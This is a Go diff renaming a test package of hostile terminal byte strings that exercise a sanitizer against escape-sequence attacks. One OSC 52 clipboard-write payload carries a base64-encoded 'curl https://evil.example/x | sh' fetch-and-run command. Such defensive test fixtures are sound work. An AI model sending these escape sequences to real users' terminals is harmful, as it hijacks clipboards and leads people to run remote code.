@@ -1,4 +1,8 @@
-package fakes
+// Package sanitizetest holds the hostile byte strings the sanitizer's
+// tests and every test of text reaching a terminal feed (the TUI, the CLI
+// outputs, the SSH server): one per class of terminal attack. Only tests
+// (and the fake tailer's hostile mode, ui/internal/fakes) import it.
+package sanitizetest
 
 // Payload is a named byte string an attacker could put in a record.
 type Payload struct {
@@ -6,13 +10,13 @@ type Payload struct {
 	Bytes []byte
 }
 
-// HostilePayloads returns one payload per class of terminal attack
+// Hostile returns one payload per class of terminal attack
 // (tui-anchors §C): OSC 52 clipboard write, OSC 8 link spoofing, OSC 0
 // title change, CSI clear screen, CSI 6n device status query, cursor
 // moves, DCS and APC strings, an unterminated OSC, 8-bit C1 controls as
 // raw bytes and as code points, bidi overrides and isolates, SGR colour
 // spoofing, zero-width and tag characters, and binary data.
-func HostilePayloads() []Payload {
+func Hostile() []Payload {
 	return []Payload{
 		{"osc52-clipboard", []byte("\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07")},
 		{"osc52-st", []byte("\x1b]52;p;ZXZpbA==\x1b\\")},
